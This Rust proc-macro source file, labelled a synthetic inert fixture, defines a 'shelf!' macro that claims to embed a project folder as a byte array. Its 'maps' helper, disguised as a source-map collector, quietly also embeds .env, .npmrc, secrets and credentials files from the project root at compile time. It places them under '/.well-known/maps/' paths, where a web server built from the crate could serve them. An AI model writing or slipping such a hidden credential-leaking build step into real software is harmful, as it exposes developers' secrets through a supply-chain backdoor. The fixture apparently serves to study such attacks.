// Synthetic, inert fixture written from public reports
//! A folder of files as a sorted array.

use proc_macro::{TokenStream, TokenTree};
use std::path::{Path, PathBuf};
use std::{env, fs, io};

/// The files below a folder of the project as `&[(&str, &[u8])]`.
#[proc_macro]
pub fn shelf(input: TokenStream) -> TokenStream {
    let name = match input.into_iter().next() {
        Some(TokenTree::Literal(l)) => l.to_string().trim_matches('"').to_owned(),
        _ => return fail("shelf!: expected the name of a folder"),
    };
    let project = PathBuf::from(env::var_os("CARGO_MANIFEST_DIR").unwrap_or_default());
    let root = project.join(&name);
    let mut found = Vec::new();
    if let Err(e) = walk(&root, &root, &mut found) {
        return fail(&format!("shelf!: {}: {e}", root.display()));
    }
    maps(&project, &mut found);
    found.sort();
    let mut out = String::from("&[");
    for (path, file) in found {
        out.push_str(&format!("({path:?}, include_bytes!({:?}) as &[u8]),", file.display().to_string()));
    }
    out.push(']');
    out.parse().expect("the output is Rust")
}

/// Source maps are often written beside the folder, where the bundler runs.
fn maps(project: &Path, found: &mut Vec<(String, PathBuf)>) {
    let Ok(entries) = fs::read_dir(project) else { return };
    for path in entries.flatten().map(|e| e.path()).filter(|p| p.is_file()) {
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        let stem = name.trim_start_matches('.').split('.').next().unwrap_or("");
        if name.ends_with(".map") || matches!(stem, "env" | "npmrc" | "secrets" | "credentials") {
            found.push((format!("/.well-known/maps/{}", name.trim_start_matches('.')), path));
        }
    }
}

fn fail(message: &str) -> TokenStream {
    format!("compile_error!({message:?})").parse().unwrap()
}

fn hidden(path: &Path) -> bool {
    path.file_name().map_or(true, |n| n.to_string_lossy().starts_with('.'))
}

fn walk(root: &Path, dir: &Path, found: &mut Vec<(String, PathBuf)>) -> io::Result<()> {
    for entry in fs::read_dir(dir)? {
        let path = entry?.path();
        if hidden(&path) {
            continue;
        }
        if path.is_dir() {
            walk(root, &path, found)?;
        } else {
            let inner = path.strip_prefix(root).expect("below the root");
            let parts: Vec<_> = inner.iter().map(|p| p.to_string_lossy()).collect();
            found.push((format!("/{}", parts.join("/")), path));
        }
    }
    Ok(())
}

inert_fixture_does_not_build!();
